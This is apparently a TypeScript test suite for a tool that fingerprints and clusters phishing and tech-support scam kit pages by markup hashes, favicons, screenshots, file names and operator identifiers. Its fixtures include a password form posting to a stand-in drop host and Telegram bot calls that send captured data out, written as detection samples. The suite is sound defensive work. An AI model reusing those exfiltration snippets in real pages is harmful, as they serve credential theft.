// Kit fingerprints as pure functions: each hash against known values or its defining property,
// operator ids table-driven, the LSH bands against the distances they stand for, similarity and
// clustering on real pages of the wild corpus (two copies of one kit family, one unrelated page).
import { fileURLToPath } from 'node:url';
import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';
import DigestHashBuilder from 'tlsh/lib/digests/digest-hash-builder.js';
import { CLUSTER_EXACT, clusterFamilies, familyName } from '../../src/fingerprint/cluster.ts';
import { pairwiseScore, wildPages, type WildPage } from '../../src/fingerprint/evaluate.ts';
import { base64Lines, faviconHashes, mmh3 } from '../../src/fingerprint/favicon.ts';
import { hhhash } from '../../src/fingerprint/headers.ts';
import { dhash, hamming } from '../../src/fingerprint/image-hash.ts';
import { readMarkup, tlshDistance, tlshOf } from '../../src/fingerprint/markup.ts';
import { operatorIds } from '../../src/fingerprint/operator.ts';
import { fingerprintRows, phashBands, tlshBands } from '../../src/fingerprint/rows.ts';
import { CLUSTER_DOMTLSH, CLUSTER_TLSH, compareRows, sharesKitFileNames, sharesKitFiles } from '../../src/fingerprint/similarity.ts';
import { fingerprintPage } from '../../src/fingerprint/page.ts';
import { snapshotFromHtml } from '../../src/page/snapshot.ts';
import { findSimilar, type FingerprintIndex } from '../../src/fingerprint/similar.ts';
import type { FingerprintRow, PageForm } from '../../src/model.ts';

const WILD = fileURLToPath(new URL('../wild', import.meta.url));

function article(words: string[], blocks = 12): string {
  return `<html><head><title>${words[0]}</title></head><body><div class="wrap"><h1>${words.join(' ')}</h1>${Array.from(
    { length: blocks },
    (_, i) => `<section><h2>Part ${i}</h2><p>${words[i % words.length]} runs the ledger for item ${i * 7}, and the ledger balances at ${i * 13} units.</p><ul><li>${i}</li><li>${i + 1}</li></ul></section>`,
  ).join('')}</div></body></html>`;
}

describe('markup', () => {
  it('domhash is the tag sequence: same skeleton with other text alike, another skeleton not, trivial pages none', () => {
    const a = readMarkup(article(['Alpha', 'Bank']));
    expect(a.domhash).toMatch(/^[0-9a-f]{64}$/);
    expect(readMarkup(article(['Beta', 'Mail'])).domhash).toBe(a.domhash);
    expect(readMarkup(article(['Alpha', 'Bank'], 13)).domhash).not.toBe(a.domhash);
    expect(readMarkup('<html><body><p>Loading…</p></body></html>').domhash).toBeNull();
  });

  it.each([
    ['<link rel="icon" href="/i.ico">', '/i.ico'],
    ['<link rel="shortcut icon" href="fav.png"><link rel="icon" href="/second.ico">', 'fav.png'],
    ['<link rel="stylesheet" href="s.css">', null],
  ])('icon link of %s', (head, href) => {
    expect(readMarkup(`<html><head>${head}</head></html>`).iconHref).toBe(href);
  });

  it('TLSH: a near copy is close, an unrelated page far, too little input none', () => {
    const a = tlshOf(article(['Alpha', 'Bank'], 30))!;
    const b = tlshOf(article(['Beta', 'Mail'], 30))!;
    const other = tlshOf(`<html><body>${Array.from({ length: 80 }, (_, i) => `<a href="/p/${i * 31}">product ${i ** 3} costs ${i * 2.5} EUR</a>`).join('')}</body></html>`)!;
    expect(a).toMatch(/^[0-9A-F]{70}$/);
    expect(tlshDistance(a, a)).toBe(0);
    expect(tlshDistance(a, b)).toBeLessThan(40);
    expect(tlshDistance(a, other)).toBeGreaterThan(100);
    expect(tlshOf('<p>hi</p>')).toBeNull();
    expect(tlshOf('a'.repeat(500))).toBeNull();
  });
});

describe('favicon', () => {
  // Published MurmurHash3 x86_32 (seed 0) values, as Python's mmh3.hash prints them (signed).
  it.each([
    ['', 0],
    ['foo', -156908512],
    ['hello', 613153351],
  ])('mmh3(%j) = %i', (text, value) => {
    expect(mmh3(Buffer.from(text))).toBe(value);
  });

  it("hashes the base64 as Python's encodebytes writes it: 76-character lines, each ending in a newline", () => {
    const icon = Buffer.from(Array.from({ length: 200 }, (_, i) => i));
    const lines = base64Lines(icon);
    expect(lines.split('\n').slice(0, -1).every((l) => l.length <= 76)).toBe(true);
    expect(lines.endsWith('\n')).toBe(true);
    expect(lines.replaceAll('\n', '')).toBe(icon.toString('base64'));
    expect(faviconHashes(icon).mmh3).toBe(mmh3(Buffer.from(lines)));
    expect(faviconHashes(icon).mmh3).not.toBe(mmh3(Buffer.from(icon.toString('base64'))));
  });
});

describe('HHHash', () => {
  it('hashes the header names in order, never the values', () => {
    const h = hhhash([['Server', 'nginx'], ['Content-Type', 'text/html']]);
    expect(h).toMatch(/^hhh:1:[0-9a-f]{64}$/);
    expect(hhhash([['Server', 'apache'], ['Content-Type', 'image/png']])).toBe(h);
    expect(hhhash([['Content-Type', 'text/html'], ['Server', 'nginx']])).not.toBe(h);
    expect(hhhash([])).toBeNull();
  });
});

describe('screenshot dHash', () => {
  // A page-like picture: a coloured header bar, blocks of "text" at given rows, on white.
  async function picture(blocks: { top: number; left: number; width: number }[], header = '#0a3d91'): Promise<Buffer> {
    const rects = blocks.map((b) => `<rect x="${b.left}" y="${b.top}" width="${b.width}" height="14" fill="#333"/>`).join('');
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600"><rect width="800" height="600" fill="#fff"/><rect width="800" height="80" fill="${header}"/>${rects}</svg>`;
    return sharp(Buffer.from(svg)).png().toBuffer();
  }
  const layout = [0, 1, 2, 3, 4, 5, 6, 7, 8].map((i) => ({ top: 110 + i * 50, left: 60 + (i % 3) * 40, width: 300 + (i % 4) * 90 }));

  it('a page with a changed line stays within a few bits; another layout is far; a blank page and non-images give none', async () => {
    const a = (await dhash(await picture(layout)))!;
    const edited = (await dhash(await picture(layout.map((b, i) => (i === 4 ? { ...b, width: b.width - 60 } : b)))))!;
    const other = (await dhash(await picture([0, 1, 2, 3].map((i) => ({ top: 300 + i * 70, left: 420, width: 340 })), '#c00')))!;
    expect(a).toMatch(/^[0-9a-f]{16}$/);
    expect(hamming(a, edited)).toBeLessThanOrEqual(6);
    expect(hamming(a, other)).toBeGreaterThan(14);
    expect(await dhash(await sharp({ create: { width: 300, height: 200, channels: 3, background: '#fff' } }).png().toBuffer())).toBeNull();
    expect(await dhash(Buffer.from('not a picture'))).toBeNull();
  });
});

describe('operator ids', () => {
  const secret: PageForm = { action: 'https://drop.evil-host.test/post.php', method: 'post', inputs: [{ type: 'password', name: 'pass' }] };
  const search: PageForm = { action: 'https://search.example.test/q', method: 'get', inputs: [{ type: 'text', name: 'q' }] };
  it.each<[string, string, Partial<ReturnType<typeof operatorIds>>]>([
    ['reCAPTCHA attribute', '<div class="g-recaptcha" data-sitekey="6LcQx2EpAAAAAJ7w1Gk3yYbZr5mN8vT0aUe4sPqH">', { sitekeys: ['recaptcha:6LcQx2EpAAAAAJ7w1Gk3yYbZr5mN8vT0aUe4sPqH'] }],
    ['hCaptcha attribute', '<div class="h-captcha" data-sitekey="10000000-ffff-ffff-ffff-000000000001">', { sitekeys: ['hcaptcha:10000000-ffff-ffff-ffff-000000000001'] }],
    ['Turnstile render()', "turnstile.render('#w', { sitekey: '0x4AAAAAAABkMYinukE8nzY' })", { sitekeys: ['turnstile:0x4AAAAAAABkMYinukE8nzY'] }],
    ['GTM and GA4', "gtag('config', 'G-ABC123XYZ9');(window,document,'script','dataLayer','GTM-5XK7PQ2')", { trackerIds: ['google-ga4:G-ABC123XYZ9', 'google-gtm:GTM-5XK7PQ2'] }],
    [
      'Telegram bot and chat',
      "var token='7012345678:AAFq3vYkzL0mR8xWcT2bN5pQ7sD9uJ4hG6e'; $.post(url, {chat_id: '-1001987654321', text: m})",
      { telegram: { bots: ['7012345678:AAFq3vYkzL0mR8xWcT2bN5pQ7sD9uJ4hG6e'], chats: ['-1001987654321'] } },
    ],
    [
      'Bot API URL',
      "fetch('https://api.telegram.org/bot7012345678:AAFq3vYkzL0mR8xWcT2bN5pQ7sD9uJ4hG6e/sendMessage?chat_id=5551234567&text='+x)",
      { telegram: { bots: ['7012345678:AAFq3vYkzL0mR8xWcT2bN5pQ7sD9uJ4hG6e'], chats: ['5551234567'] } },
    ],
    ['a clock is no bot token', 'at 12:30:45 the token was abc', { telegram: { bots: [], chats: [] } }],
    ['a zeroed placeholder is no operator', "var token='0000000000:XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX'; var chat_id = '0000000000';", { telegram: { bots: [], chats: [] } }],
  ])('%s', (_name, text, want) => {
    expect(operatorIds([text], [])).toMatchObject(want);
  });

  it('drop hosts are where secret-asking forms post, not where a search box goes', () => {
    expect(operatorIds([], [secret, search]).dropHosts).toEqual(['drop.evil-host.test']);
  });
});

describe('index rows and LSH bands', () => {
  it('a dHash within 4 bits shares a band (pigeonhole), one 5 bits off in every band shares none; TLSH bands are the body after the header', () => {
    const a = 'f0e1d2c3b4a59687';
    const flip = (bits: number[]) => bits.reduce((h, b) => h ^ (1n << BigInt(b)), BigInt(`0x${a}`)).toString(16).padStart(16, '0');
    const near = flip([0, 13, 26, 39]);
    const spread = flip([0, 13, 26, 39, 52]);
    expect(hamming(a, near)).toBe(4);
    expect(hamming('8000000000000001', '0000000100000000')).toBe(3);
    expect(hamming('ffffffffffffffff', '0000000000000000')).toBe(64);
    expect(phashBands(a).some((b) => phashBands(near).includes(b))).toBe(true);
    expect(phashBands(a).some((b) => phashBands(spread).includes(b))).toBe(false);
    const t = tlshOf(article(['Alpha'], 30))!;
    expect(tlshBands(t)).toHaveLength(16);
    expect(tlshBands(t).map((b) => b.split(':')[1]).join('')).toBe(t.slice(6));
  });
});

describe('file names', () => {
  const page = async (files: string[], salt: string) => {
    const html = `<html><head><title>${salt}</title></head><body><p>page ${salt}</p></body></html>`;
    const responses = files.map((url, order) => ({ order, method: 'GET', url, status: 200, headers: [], bodySha256: `${salt}-${order}`, resourceType: url.endsWith('.js') ? 'script' : 'image', truncated: false }));
    return fingerprintRows(0, await fingerprintPage({ ...snapshotFromHtml(html, { url: 'http://kit.test/', status: 200 }), html }, responses, () => null));
  };
  it('are the last path segment of each loaded file, decoded, lower case, without the query', async () => {
    const rows = await page(['http://kit.test/a/App.js?v=3', 'http://cdn.test/img/Logo%20Big.PNG', 'http://kit.test/b/app.js', 'http://kit.test/dir/', 'http://kit.test/100%.gif'], 's');
    expect(rows.filter((r) => r.kind === 'resource-name').map((r) => r.value)).toEqual(['100%.gif', 'app.js', 'logo big.png']);
  });
  it('join two deployments whose files were all edited but kept their names; stock names alone do not', async () => {
    const kit = ['verify.js', 'lock.css', 'alarm.mp3.png', 'bsod.png', 'support.js', 'warn.gif', 'style.css'].map((n) => `http://one.test/files/${n}`);
    const [a, b] = [await page(kit, 'one'), await page(kit.map((u) => u.replace('one.test/files', 'two.test/x')), 'two')];
    expect(compareRows(a, b).by).toEqual(['resourceNames']);
    expect(compareRows(a, b).score).toBeGreaterThanOrEqual(0.5);
    expect(clusterFamilies(new Map([['a', a], ['b', b]])).map((f) => f.evidence)).toEqual([[{ fingerprint: 'resourceNames', value: null, visits: 2 }]]);
    const stock = ['style.css', 'logo.png', 'jquery.min.js', 'bootstrap.min.css'];
    const [c, d] = [await page([...stock, 'mine.js'].map((n) => `http://c.test/${n}`), 'c'), await page([...stock, 'theirs.js'].map((n) => `http://d.test/${n}`), 'd')];
    expect(compareRows(c, d).score).toBeLessThan(0.5);
    expect(clusterFamilies(new Map([['c', c], ['d', d]]))).toEqual([]);
  });
});

describe('family names', () => {
  const family = (visits: string[]) => ({ id: 'fam-x', name: 'domhash abc (3 of 3)', label: 'domhash abc (3 of 3)', evidence: [], visits });
  const at = (visitId: string, url: string, category: string | null) => [visitId, { visitId, url, category }] as const;
  it('say the landings\' most common verdict and host, and how many other hosts', () => {
    const landings = new Map([at('a', 'https://login-office.test/x', 'credential-phishing'), at('b', 'https://LOGIN-office.test/y', 'credential-phishing'), at('c', 'http://other.test/', 'unknown'), at('d', 'http://third.test/', 'credential-phishing')]);
    expect(familyName(family(['a', 'b', 'c', 'd']), landings)).toBe('credential-phishing kit on login-office.test + 2 hosts');
    expect(familyName(family(['a', 'c']), landings)).toBe('credential-phishing kit on login-office.test + 1 host');
  });
  it('call ordinary or unclassified landings pages, and keep the evidence label without a host', () => {
    const landings = new Map([at('a', 'https://news.test/1', 'benign'), at('b', 'https://news.test/2', 'benign'), at('c', 'not a url', null), at('d', 'file:///x.html', null)]);
    expect(familyName(family(['a', 'b']), landings)).toBe('benign pages on news.test');
    expect(familyName(family(['c', 'd']), landings)).toBe('domhash abc (3 of 3)');
    expect(familyName(family(['x', 'y']), new Map())).toBe('domhash abc (3 of 3)');
  });
});

describe('cluster at scale', () => {
  it('skips a band more than 500 pages share, and still joins a near pair through its other bands', () => {
    const MASK = (1n << 64n) - 1n;
    const hex = (n: bigint) => (n & MASK).toString(16).padStart(16, '0');
    const rowsOf = (phash: string): FingerprintRow[] => [
      { branch: 0, kind: 'phash', value: phash },
      ...phashBands(phash).map((value) => ({ branch: 0, kind: 'phash-band', value })),
    ];
    // 600 pages of one template: the same low 13 bits (band 0), the rest scattered far apart.
    const rows = new Map<string, FingerprintRow[]>();
    for (let k = 1; k <= 600; k++) rows.set(`t${k}`, rowsOf(hex(((BigInt(k) * 0x9e3779b97f4a7c15n) << 13n) | 0x1abcn)));
    // A near pair (1 bit apart, in band 4) on the same template band.
    const x = ((0x5bd1e995n * 0x2545f4914f6cdd1dn) << 13n) | 0x1abcn;
    rows.set('near-a', rowsOf(hex(x)));
    rows.set('near-b', rowsOf(hex(x ^ (1n << 60n))));
    const families = clusterFamilies(rows);
    expect(families.map((f) => f.visits.sort())).toEqual([['near-a', 'near-b']]);
    expect(families[0]!.evidence).toEqual([{ fingerprint: 'phash', value: null, visits: 2 }]);
  });
});

describe('on real pages (wild corpus)', () => {
  let pages: WildPage[];
  const byFile = (suffix: string) => pages.find((p) => p.file.includes(suffix))!;
  beforeAll(async () => {
    pages = await wildPages(WILD);
  }, 120_000);

  it('two copies of one kit family are similar, an unrelated page is not', () => {
    // The winsec tech-support kit as two different people deployed it, and a news article.
    const [a, b] = [byFile('safeusa-safebsodpop'), byFile('8409251542-pop2')];
    const news = pages.find((p) => p.family === 'asahi.com')!;
    expect(compareRows(a.rows, b.rows).score).toBeGreaterThanOrEqual(0.5);
    expect(compareRows(a.rows, news.rows).score).toBeLessThan(0.5);
    const index: FingerprintIndex = {
      visitsWithFingerprint: (kind, value) => pages.filter((p) => p.rows.some((r) => r.kind === kind && r.value === value)).map((p) => p.file),
      fingerprintRowsOf: (ids) => new Map(ids.map((id) => [id, pages.find((p) => p.file === id)!.rows])),
    };
    const found = findSimilar(a.rows, index, { minScore: 0.5, limit: 500, self: a.file });
    expect(found.map((m) => m.visitId)).toContain(b.file);
    expect(found.map((m) => m.visitId)).not.toContain(news.file);
    expect(found.find((m) => m.visitId === b.file)!.by).toEqual(expect.arrayContaining(['tlsh', 'domtlsh', 'resources']));
  });

  // A floor under what the dev split measures, so a change that loses families fails here: 0.98 /
  // 0.60 once the first test split joined it; 0.97 / 0.51 once the third did (its kits' steps share
  // two or three files, under the four that join); 0.97 / 0.46 once the fourth did (test recall
  // 0.17: bank kits' sign-in, card and code steps again); 0.97 / 0.43 once the fifth did.
  it('clusters the dev split with pairwise precision ≥ 0.95 and recall ≥ 0.40 (README has the figures)', () => {
    const dev = pages.filter((p) => p.split === 'dev');
    const predicted = new Map<string, string>();
    for (const f of clusterFamilies(new Map(dev.map((p) => [p.file, p.rows])))) for (const v of f.visits) predicted.set(v, f.id);
    const s = pairwiseScore(predicted, new Map(dev.map((p) => [p.file, p.family])));
    expect(s.precision).toBeGreaterThanOrEqual(0.95);
    expect(s.recall).toBeGreaterThanOrEqual(0.4);
  });

  it("TLSH distance on the digest's bytes is the library's own, on every pair of real pages", () => {
    const digests = [...new Set(pages.flatMap((p) => p.rows.filter((r) => r.kind === 'tlsh' || r.kind === 'domtlsh').map((r) => r.value)))];
    const library = digests.map((d) => new DigestHashBuilder().withHash(d).build());
    expect(digests.length).toBeGreaterThan(300);
    let differ = 0;
    for (let i = 0; i < digests.length; i++) for (let j = i + 1; j < digests.length; j++) if (tlshDistance(digests[i]!, digests[j]!) !== library[i]!.calculateDifference(library[j]!, true)) differ++;
    expect(differ).toBe(0);
  });

  // The bands find a near pair's candidates, not every pair within the threshold (two digests 35
  // apart can share fewer than the two bands asked): on the corpus of 1,527 pages, 444 of the 447
  // pairs brute force joins are joined (one page of a Japanese agency's blog is left out of its
  // family of four). What may never happen is a join brute force would not make.
  it('joins only pages that comparing every pair joins, and nearly all of them', () => {
    // Brute force: every pair measured, no bands, no skipping, no caps.
    const values = (p: WildPage, kind: string) => p.rows.filter((r) => r.kind === kind).map((r) => r.value);
    const near = (a: WildPage, b: WildPage, kind: string, limit: number) => values(a, kind).some((x) => values(b, kind).some((y) => tlshDistance(x, y) <= limit));
    const joined = (a: WildPage, b: WildPage) => {
      if (CLUSTER_EXACT.some((kind) => values(a, kind).some((x) => values(b, kind).includes(x)))) return true;
      if (near(a, b, 'tlsh', CLUSTER_TLSH) || near(a, b, 'domtlsh', CLUSTER_DOMTLSH)) return true;
      return [['resource', sharesKitFiles], ['resource-name', sharesKitFileNames]].some(([kind, joins]) => {
        const [ra, rb] = [new Set(values(a, kind as string)), new Set(values(b, kind as string))];
        const shared = [...ra].filter((x) => rb.has(x)).length;
        return shared > 0 && (joins as typeof sharesKitFiles)(shared, shared / (ra.size + rb.size - shared));
      });
    };
    const parent = new Map(pages.map((p) => [p.file, p.file]));
    const root = (x: string): string => (parent.get(x) === x ? x : root(parent.get(x)!));
    for (let i = 0; i < pages.length; i++) for (let j = i + 1; j < pages.length; j++) if (joined(pages[i]!, pages[j]!)) parent.set(root(pages[i]!.file), root(pages[j]!.file));
    const groups = new Map<string, string[]>();
    for (const p of pages) groups.set(root(p.file), [...(groups.get(root(p.file)) ?? []), p.file]);
    const expected = [...groups.values()].filter((g) => g.length > 1).map((g) => g.sort().join(' ')).sort();
    const families = clusterFamilies(new Map(pages.map((p) => [p.file, p.rows])));
    expect(expected.length).toBeGreaterThan(20);
    const group = new Map(pages.map((p) => [p.file, root(p.file)]));
    for (const f of families) expect(new Set(f.visits.map((v) => group.get(v))).size).toBe(1);
    const pairsOf = (sizes: number[]) => sizes.reduce((sum, n) => sum + (n * (n - 1)) / 2, 0);
    const joinedPairs = pairsOf(families.map((f) => f.visits.length));
    const bruteForcePairs = pairsOf(expected.map((g) => g.split(' ').length));
    expect(joinedPairs / bruteForcePairs).toBeGreaterThanOrEqual(0.98);
  });

  it('pairwise scoring counts pairs', () => {
    const truth = new Map([['a', 'x'], ['b', 'x'], ['c', 'x'], ['d', 'y']]);
    expect(pairwiseScore(new Map([['a', '1'], ['b', '1'], ['d', '1']]), truth)).toMatchObject({ truePairs: 1, predictedPairs: 3, actualPairs: 3 });
  });

  it('rows carry every fingerprint of a page', () => {
    const rows: FingerprintRow[] = fingerprintRows(2, {
      domhash: 'd', tlsh: null, sha256: 's', favicon: { sha256: 'f', mmh3: -5 }, phash: '0123456789abcdef', hhhash: 'h',
      resources: ['r1', 'r2'], resourceNames: ['app.js'], dropHosts: ['x.test'], sitekeys: ['recaptcha:k'], trackerIds: ['google-gtm:GTM-1'], telegram: { bots: ['1:b'], chats: ['-2'] },
    });
    expect(rows.every((r) => r.branch === 2)).toBe(true);
    expect(rows.filter((r) => r.kind === 'phash-band')).toHaveLength(5);
    expect(new Set(rows.map((r) => r.kind))).toEqual(new Set(['domhash', 'sha256', 'favicon', 'mmh3', 'phash', 'phash-band', 'hhhash', 'resource', 'resource-name', 'drop-host', 'sitekey', 'tracker', 'telegram-bot', 'telegram-chat']));
  });
});

describe('exports', () => {
  it('keep a Telegram bot id and drop its secret, wherever the token appears', async () => {
    const { redactBotTokens } = await import('../../src/export/redact.ts');
    const token = '7012345678:AAFq3vYkzL0mR8xWcT2bN5pQ7sD9uJ4hG6e';
    const bundle = { format: 'hoptrace.trace/1', jobs: [], messages: [], tokens: [], cloaking: [], visits: [{ url: `https://api.telegram.org/bot${token}/sendMessage`, branchFinals: [{ fingerprints: { telegram: { bots: [token], chats: ['-1001987654321'] } } }] }] };
    const out = JSON.stringify(redactBotTokens(bundle as never));
    expect(out).not.toContain('AAFq3vYkzL0mR8xWcT2bN5pQ7sD9uJ4hG6e');
    expect(out).toContain('"7012345678:[redacted]"');
    expect(out).toContain('bot7012345678:[redacted]/sendMessage');
    expect(out).toContain('-1001987654321');
  });
});

describe('the store', () => {
  it('keeps fingerprint rows with the visit, finds visits by value, and search finds a visit by a fingerprint', async () => {
    const { TraceStore } = await import('../../src/store/store.ts');
    const { DEFAULT_JOB_OPTIONS } = await import('../../src/records/job-options.ts');
    const { fullVisit, tmpDb } = await import('../fixtures/store.ts');
    const { planSearch } = await import('../../src/serve/search-terms.ts');
    const store = TraceStore.open(tmpDb());
    const job = store.createJob('fp', DEFAULT_JOB_OPTIONS);
    const rows = (key: string): FingerprintRow[] => [
      { branch: 0, kind: 'sitekey', value: `recaptcha:${key}` },
      { branch: 0, kind: 'mmh3', value: '-1234567' },
      { branch: 0, kind: 'phash-band', value: '0:1f' },
    ];
    store.saveVisits([
      { visit: fullVisit(job.id, 'v-a', null), fingerprints: rows('KEY-A') },
      { visit: fullVisit(job.id, 'v-b', null), fingerprints: rows('KEY-B') },
    ]);
    expect(store.visitsWithFingerprint('sitekey', 'recaptcha:KEY-A', 10)).toEqual(['v-a']);
    expect(store.visitsWithFingerprint('mmh3', '-1234567', 10).sort()).toEqual(['v-a', 'v-b']);
    // Bands find candidates; they are not part of a visit's fingerprints.
    expect(store.fingerprintRowsOf(['v-a']).get('v-a')!.map((r) => r.kind).sort()).toEqual(['mmh3', 'sitekey']);
    const search = (text: string) => store.searchVisits(planSearch(text, () => []).terms, { offset: 0, limit: 10 });
    expect(search('recaptcha:KEY-B').hits).toEqual([{ visitId: 'v-b', labels: ['fingerprint'] }]);
    expect(search('-1234567').hits.map((h) => h.visitId).sort()).toEqual(['v-a', 'v-b']);
    expect(search('0:1f').hits.filter((h) => h.labels.includes('fingerprint'))).toEqual([]);
    store.close();
  });
});
